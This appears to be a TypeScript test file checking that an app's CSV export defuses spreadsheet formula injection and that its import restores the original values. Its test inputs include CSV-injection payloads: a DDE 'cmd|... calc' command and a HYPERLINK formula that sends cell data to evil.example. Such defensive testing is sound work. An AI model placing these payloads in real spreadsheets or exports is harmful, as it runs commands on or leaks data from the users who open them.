import { SELF } from 'cloudflare:test';
import { env } from 'cloudflare:workers';
import Papa from 'papaparse';
import { expect, it } from 'vitest';
import type { Snapshot } from '../../shared/profile/snapshot.ts';
import { runImport } from '../../worker/services/import/run-import.ts';
import { callConsole, signedInAs } from './support/console-user.ts';
import { naughtyStrings } from './support/naughty-strings.ts';
import { callApi, tokenOf } from './support/server-api.ts';
import { makeSite } from './support/site.ts';

/** Cells that spreadsheets run: the sign, what hides it from a naive look, and what may follow. */
const signs = ['=', '+', '-', '@', '|', '＝', '＋', '－', '＠'];
const covers = ['', ' ', '   ', '\t', '\r', '\n', '\uFEFF', '\u00A0', '\u2003', "'", "''"];
const payloads = ["cmd|' /C calc'!A0", '1+1', 'HYPERLINK("http://evil.example?x="&A1)', 'SUM(1,2)'];
const formulas = covers.flatMap((cover) =>
  signs.flatMap((sign) => payloads.map((payload) => `${cover}${sign}${payload}`)),
);

/** What a spreadsheet would run: it trims what it takes for blank, and reads full-width signs as signs. */
const isRun = (cell: string) => /^[\s\uFEFF]*[=+\-@|＝＋－＠]/u.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

it('formulas and naughty strings go out harmless and come in again as they were', async () => {
  const site = await makeSite({ id: 's_csv' });
  const token = await tokenOf(site.id, 'admin');
  const cookie = await signedInAs(site.id, 'owner');
  const texts = [...formulas, ...naughtyStrings];
  const profiles = texts.map((text, index) => ({
    identifiers: { source_id: `person-${index}` },
    attributes: { note: text },
  }));
  for (let from = 0; from < profiles.length; from += 500) {
    const response = await callApi('POST', '/profiles/batch', {
      token,
      body: { profiles: profiles.slice(from, from + 500) },
    });
    expect(response.status).toBe(200);
  }
  const before = await notes(site.id);
  expect(before.size).toBeGreaterThan(texts.length * 0.95);
  const file = await exported(cookie);
  const { data } = Papa.parse<string[]>(file.replace(/^\uFEFF/, ''), { skipEmptyLines: true });
  const cells = data.slice(1).map(([, note]) => note ?? '');
  expect(cells.filter(isRun)).toEqual([]);

  // The same people with other words, and then the file again.
  const others = profiles.map(({ identifiers }) => ({ identifiers, attributes: { note: 'changed' } }));
  for (let from = 0; from < others.length; from += 500)
    await callApi('POST', '/profiles/batch', { token, body: { profiles: others.slice(from, from + 500) } });
  const columns = [{ kind: 'profileId' }, { kind: 'attribute', attribute: 'note' }];
  const made = await callConsole('POST', '/imports', { cookie, body: { name: 'own', hasHeader: true, columns } });
  const { id } = (await made.json()) as { id: string };
  await callConsole('PUT', `/imports/${id}/parts/0`, { cookie, body: file });
  await callConsole('POST', `/imports/${id}/start`, { cookie });
  while (await runImport(env, site.id, id, Date.now() + 20_000));
  const failures = await env.DB.prepare('SELECT count(*) AS c FROM import_failures WHERE import = ?')
    .bind(id)
    .first('c');
  expect(failures).toBe(0);
  const after = await notes(site.id);
  const changed = [...before].filter(([n, note]) => after.get(n) !== note).map(([n, note]) => [note, after.get(n)]);
  console.log(
    `FIGURES ${JSON.stringify({ cells: before.size, run: cells.filter(isRun).length, changed: changed.length })}`,
  );
  expect(changed).toEqual([]);
}, 120_000);

async function notes(site: string): Promise<Map<number, unknown>> {
  const { results } = await env.DB.prepare('SELECT n, snapshot FROM profiles WHERE site = ?')
    .bind(site)
    .all<{ n: number; snapshot: string }>();
  const known = results.map(
    ({ n, snapshot }) => [n, (JSON.parse(snapshot) as Snapshot).attributes.note?.value] as const,
  );
  return new Map(known.filter(([, note]) => note !== undefined && note !== ''));
}

async function exported(cookie: string): Promise<string> {
  const response = await SELF.fetch('https://usher.example/api/console/population/export', {
    method: 'POST',
    headers: { 'sec-fetch-site': 'same-origin', cookie },
    body: JSON.stringify({
      rule: { kind: 'attribute', attribute: 'sessions', operator: 'gte', value: 0 },
      attributes: ['note'],
    }),
  });
  if (response.status !== 200) throw new Error(await response.text());
  return new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(await response.arrayBuffer());
}
